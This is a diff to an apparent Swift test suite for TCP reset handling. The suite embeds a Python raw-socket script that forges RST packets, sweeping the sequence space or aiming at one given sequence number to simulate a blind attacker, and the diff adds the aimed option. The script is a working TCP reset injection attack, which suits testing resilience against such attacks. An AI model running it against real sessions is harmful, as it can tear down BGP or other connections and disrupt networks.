@@ -222,10 +222,11 @@ struct RSTInlineTests {
     /// A blind attacker who knows the 4-tuple of the session but not its sequence numbers: one
     /// RST per half-window step of the whole sequence space, so two land in the window (a
     /// loaded machine's control run once survived a one-per-window sweep: its client missed the
-    /// one RST that hit).
+    /// one RST that hit). With a fourth argument, that one sequence number instead (an aimed RST).
     static let sweeper = """
         import socket, struct, sys, random
         src, dst, dport = sys.argv[1], sys.argv[2], int(sys.argv[3])
+        aimed = [int(sys.argv[4])] if len(sys.argv) > 4 else None
         tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
         def csum(b):
             s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
@@ -234,8 +235,7 @@ struct RSTInlineTests {
         ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!BBH', 0, 6, 20)
         off = random.getrandbits(16)
         n = 0
-        for k in range(131076):
-            seq = (k * 32767 + off) & 0xffffffff
+        for seq in aimed or ((k * 32767 + off) & 0xffffffff for k in range(131076)):
             h = struct.pack('!HHIIBBHHH', 179, dport, seq, 0, 5 << 4, 0x04, 0, 0, 0)
             h = h[:16] + struct.pack('!H', csum(ph + h)) + h[18:]
             tx.sendto(h, (dst, 0)); n += 1
